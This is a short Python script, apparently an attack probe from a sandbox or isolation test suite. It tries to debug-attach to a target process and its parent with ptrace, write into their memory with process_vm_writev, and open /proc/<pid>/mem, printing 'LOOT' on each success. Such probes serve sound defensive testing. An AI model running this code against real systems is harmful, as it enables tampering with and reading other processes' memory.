# attack: attaches to foreign processes as a debugger, and writes into their memory
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
print("PR_SET_PTRACER", libc.prctl(0x59616D61, ctypes.c_ulong(2**64 - 1), 0, 0, 0), "PR_SET_DUMPABLE", libc.prctl(4, 1, 0, 0, 0))
buffer = ctypes.create_string_buffer(b"mallory", 8)
vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
for pid in (int("@PID@"), os.getppid() or 1):
    for name, request in (("attach", 16), ("seize", 0x4206), ("peek", 1), ("poke", 4), ("kill", 8), ("traceme", 0)):
        if pid != int("@PID@") and name in ("attach", "kill"):
            continue  # would stop the nursery
        if libc.ptrace(request, pid, 0, 0) == 0 and name != "kill":
            print("LOOT:", name, pid)
        print(name, pid, os.strerror(ctypes.get_errno()))
    print("write", libc.process_vm_writev(pid, vector, 1, vector, 1, 0), os.strerror(ctypes.get_errno()))
    try:
        with open(f"/proc/{pid}/mem", "r+b"):
            print("LOOT: memory of", pid)
    except OSError as error:
        print(error)
child = os.fork()
if child == 0:
    os._exit(0 if libc.ptrace(0, 0, 0, 0) else 1)
if os.waitpid(child, 0)[1]:
    print("LOOT: a child may be traced")
print("TRIED")
